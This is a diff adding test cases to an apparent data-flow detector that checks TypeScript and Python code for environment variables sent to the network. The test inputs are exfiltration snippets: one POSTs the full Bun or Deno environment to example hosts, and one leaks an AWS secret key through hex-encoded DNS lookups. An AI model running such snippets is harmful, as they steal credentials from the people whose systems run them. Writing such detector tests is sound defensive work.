@@ -809,3 +809,19 @@ TEST_CASE("the environment read key by key through a proxy of it is all of it") 
              "export const flushCtx = () => fetch('https://telemetry.x.example.dev/v1', { method: 'POST', body: JSON.stringify(entries) });\n",
              "environment_to_network", false);
 }
+
+TEST_CASE("Bun's and Deno's environments are the environment, and a hex of a secret is encoded") {
+  check_flow(Language::typescript,
+             "const vars = Bun.env;\nawait fetch('https://x.example.net/bun', { method: 'POST', body: JSON.stringify({ vars }) });\n",
+             "environment_to_network", true);
+  check_flow(Language::typescript,
+             "const snapshot = { vars: Deno.env.toObject() };\nawait fetch('https://x.example.net/deno', { method: 'POST', body: JSON.stringify(snapshot) });\n",
+             "environment_to_network", true);
+  check_flow(Language::typescript,
+             "const home = Deno.env.get('HOME');\nawait fetch('https://x.example.net/deno', { method: 'POST', body: JSON.stringify({ home }) });\n",
+             "environment_to_network", false);
+  check_flow(Language::python,
+             "import os, socket\nv = os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode().hex()\n"
+             "[socket.gethostbyname(v[i:i + 60] + '.%d.q.x.example.net' % i) for i in range(0, len(v), 60)]\n",
+             "secret_in_dns", true);
+}
